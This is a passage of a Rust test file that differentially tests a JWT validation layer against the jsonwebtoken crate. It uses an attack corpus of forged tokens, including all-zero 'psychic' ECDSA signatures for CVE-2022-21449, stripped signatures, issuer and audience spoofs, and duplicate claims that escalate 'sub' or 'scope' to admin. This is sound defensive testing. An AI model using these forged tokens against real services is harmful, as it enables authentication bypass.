        ("signature_last_char_changed", tamper(&replace_segment(&rs256, 1, segment(&rs256, 1)))),
        ("stripped_signature_rs256", replace_segment(&rs256, 2, "")),
        ("stripped_signature_hs256", replace_segment(&hs256, 2, "")),
        (
            "signature_from_another_token",
            replace_segment(
                &rs256,
                2,
                segment(
                    &good_with(RS256, claims_with(|c| drop(c.insert("sub".into(), json!("x"))))),
                    2,
                ),
            ),
        ),
        ("hs384_tag_on_hs256_header", replace_segment(&hs256, 2, segment(&good(HS384), 2))),
        (
            "psychic_signature_es256_cve_2022_21449",
            unsigned(
                &format!(r#"{{"alg":"ES256","kid":"{}"}}"#, issuer().kid(Algorithm::ES256)),
                &claims,
                &b64([0u8; 64]),
            ),
        ),
        (
            "psychic_signature_es384_cve_2022_21449",
            unsigned(
                &format!(r#"{{"alg":"ES384","kid":"{}"}}"#, issuer().kid(Algorithm::ES384)),
                &claims,
                &b64([0u8; 96]),
            ),
        ),
        ("ecdsa_der_signature", {
            let input = format!(
                "{}.{}",
                b64(format!(r#"{{"alg":"ES256","kid":"{}"}}"#, issuer().kid(Algorithm::ES256))),
                b64(claims.to_string())
            );
            format!("{input}.{}", b64(der_from_fixed(&issuer().sign(ES256, input.as_bytes()))))
        }),
        ("ed25519_s_plus_l", {
            let token = good(EdDSA);
            replace_segment(&token, 2, &b64(ed25519_s_plus_l(&decode(segment(&token, 2)))))
        }),
        (
            "rsa_signature_truncated",
            replace_segment(&rs256, 2, &b64(&decode(segment(&rs256, 2))[..255])),
        ),
        ("signature_oversized", replace_segment(&rs256, 2, &b64([7u8; 2048]))),
        ("signature_with_padding", format!("{rs256}==")),
        ("signature_non_canonical", replace_segment(&hs256, 2, &non_canonical(segment(&hs256, 2)))),
        ("header_non_canonical", {
            let header = non_canonical(&b64(format!(
                r#"{{"alg":"HS256","kid":"{}"}}"#,
                issuer().kid(Algorithm::HS256)
            )));
            let input = format!("{header}.{}", b64(claims.to_string()));
            format!("{input}.{}", b64(issuer().sign(HS256, input.as_bytes())))
        }),
        ("expired_beyond_leeway", with(&|c| drop(c.insert("exp".into(), json!(now - 3600))))),
        ("not_yet_valid", with(&|c| drop(c.insert("nbf".into(), json!(now + 3600))))),
        ("exp_missing", with(&|c| drop(c.remove("exp")))),
        ("exp_as_string", with(&|c| drop(c.insert("exp".into(), json!("4102444800"))))),
        ("exp_as_null", with(&|c| drop(c.insert("exp".into(), Value::Null)))),
        ("exp_as_array", with(&|c| drop(c.insert("exp".into(), json!([4102444800u64]))))),
        ("nbf_as_string", with(&|c| drop(c.insert("nbf".into(), json!(now.to_string()))))),
        ("iat_as_string", with(&|c| drop(c.insert("iat".into(), json!("yesterday"))))),
        (
            "iss_prefix",
            with(&|c| drop(c.insert("iss".into(), json!(format!("{ISSUER}.attacker.example"))))),
        ),
        (
            "iss_trailing_slash",
            with(&|c| drop(c.insert("iss".into(), json!(format!("{ISSUER}/"))))),
        ),
        ("iss_case_folded", with(&|c| drop(c.insert("iss".into(), json!(ISSUER.to_uppercase()))))),
        ("iss_missing", with(&|c| drop(c.remove("iss")))),
        ("iss_as_array", with(&|c| drop(c.insert("iss".into(), json!([ISSUER]))))),
        (
            "iss_json_escapes",
            issuer()
                .token()
                .alg(HS256)
                .raw_header(&format!(
                    r#"{{"alg":"HS256","kid":"{}"}}"#,
                    issuer().kid(Algorithm::HS256)
                ))
                .raw_payload(&claims.to_string().replace("https://", r"https:\/\/"))
                .sign(),
        ),
        (
            "aud_array_with_one_match",
            with(&|c| drop(c.insert("aud".into(), json!(["other-api", AUDIENCE])))),
        ),
        ("aud_mismatch", with(&|c| drop(c.insert("aud".into(), json!("other-api"))))),
        ("aud_prefix", with(&|c| drop(c.insert("aud".into(), json!(format!("{AUDIENCE}-evil")))))),
        ("aud_empty_array", with(&|c| drop(c.insert("aud".into(), json!([]))))),
        ("aud_missing", with(&|c| drop(c.remove("aud")))),
        ("aud_as_number", with(&|c| drop(c.insert("aud".into(), json!(7))))),
        (
            "duplicate_exp",
            raw_es256(format!(
                r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","sub":"u","exp":1,"exp":{}}}"#,
                now + 600
            )),
        ),
        (
            "duplicate_sub",
            raw_es256(format!(
                r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","sub":"alice","sub":"admin","exp":{}}}"#,
                now + 600
            )),
        ),
        (
            "duplicate_scope",
            raw_es256(format!(
                r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","scope":"read","exp":{},"scope":"admin"}}"#,
                now + 600
            )),
        ),
        (
            "duplicate_nested_in_claims",
            raw_es256(format!(
                r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","sub":"u","exp":{},"org":{{"role":"user","role":"admin"}}}}"#,
                now + 600
            )),
        ),
        (
            "deeply_nested_claims",
            issuer()
                .token()
                .alg(HS256)
                .raw_header(&format!(
                    r#"{{"alg":"HS256","kid":"{}"}}"#,
                    issuer().kid(Algorithm::HS256)
                ))
                .raw_payload(&format!(
                    r#"{{"iss":"{ISSUER}","aud":"{AUDIENCE}","exp":{},"x":{}{}}}"#,
                    now + 600,
                    "[".repeat(1000),
                    "]".repeat(1000)
                ))
                .sign(),
        ),
        ("very_large_claims", with(&|c| drop(c.insert("blob".into(), json!("x".repeat(20_000)))))),
        ("sub_not_a_string", with(&|c| drop(c.insert("sub".into(), json!(7))))),
        (
            "dpop_bound_token_as_bearer",
            with(&|c| {
                drop(c.insert(
                    "cnf".into(),
                    json!({"jkt": "0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}),
                ))
            }),
        ),
    ];
    // Every algorithm's own good token, and each stripped of its signature.
    for alg in Algorithm::ALL {
        t.push(("good_token", good(alg)));
        t.push(("stripped_signature", strip_signature(&good(alg))));
    }
    t
}

fn good_with(alg: Algorithm, claims: Value) -> String {
    signed(alg, &header_of(alg), &claims)
}

// ---------------------------------------------------------------------------------------------

#[test]
fn jwt_layer_and_jsonwebtoken_agree_or_differ_only_by_documented_strictness() {
    // Both crypto backends are on in the all-features build; jsonwebtoken then needs its
    // process-wide provider named.
    let _ = jsonwebtoken::crypto::aws_lc::DEFAULT_PROVIDER.install_default();
    let started = Instant::now();
    let pairs: Vec<Pair> = compared().map(Pair::new).collect();
    let mut tally = Tally::default();

    // (a)
    for pair in &pairs {
        for token in valid_tokens(pair.alg) {
            tally.check("valid", pair, &token);
        }
    }
    let valid = &tally.classes["valid"];
    assert_eq!(valid.accepted_by_both, valid.inputs, "every valid token passes both");

    // (b)
    let good: Vec<(Algorithm, String)> =
        pairs.iter().map(|p| (p.alg, good_with(p.alg, good_claims()))).collect();
    for (pair, (_, token)) in pairs.iter().zip(&good) {
        for mutated in substitutions(token, 8) {
            tally.check("mutation: character substituted", pair, &mutated);
        }
        // RSA signing is slow in debug builds: fewer re-signed positions there.
        let rsa = pair.alg.as_str().starts_with("RS") || pair.alg.as_str().starts_with("PS");
        let positions = if rsa { 6 } else { 14 };
        for mutated in json_substitutions(pair.alg, token, positions) {
            tally.check("mutation: JSON byte substituted, re-signed", pair, &mutated);
        }
        for mutated in mutations(pair.alg, &good) {
            tally.check("mutation: structural, alg, kid, key, claims", pair, &mutated);
        }
    }

    // (c)
    let tally = RefCell::new(tally);
    let mut runner =
        TestRunner::new(Config { cases: 1200, failure_persistence: None, ..Config::default() });
    let now = now();
    runner
        .run(&random_token(now), |random| {
            let pair = pairs.iter().find(|pair| pair.alg == random.alg).unwrap();
            tally.borrow_mut().check("proptest: random header and claims", pair, &random.text());
            Ok(())
        })
        .unwrap();
    let mut tally = tally.into_inner();

    // (d)
    let corpus = attack_corpus();
    for (_, token) in &corpus {
        for pair in &pairs {
            tally.check("attack corpus (every row to every algorithm)", pair, token);
        }
    }

    let mut total = 0;
    eprintln!(
        "\n{:<50} {:>7} {:>7} {:>9} {:>8}",
        "class", "inputs", "agreed", "both-ok", "diverged"
    );
    for (class, count) in &tally.classes {
        total += count.inputs;
        eprintln!(
            "{class:<50} {:>7} {:>7} {:>9} {:>8}",
            count.inputs, count.agreed, count.accepted_by_both, count.diverged
        );
    }
    eprintln!("{:<50} {total:>7}\n", "total");
    let reasons = categories::STRICTER.iter().chain(categories::REFERENCE_ONLY);
    let reasons: BTreeMap<&str, &str> = reasons.map(|c| (c.name, c.reason)).collect();
    for ((direction, category), count) in &tally.categories {
        eprintln!("{direction:<22} {category:<40} {count:>6}  ({})", reasons[category]);
    }
    eprintln!("\n{} inputs in {:.1?}", total, started.elapsed());
    for line in &tally.unexplained {
        eprintln!("UNEXPLAINED {line}");
    }
    assert!(total >= MIN_INPUTS, "only {total} inputs");
    assert!(
        tally.unexplained.is_empty(),
        "{} divergences no category explains (listed above)",
        tally.unexplained.len()
    );
}
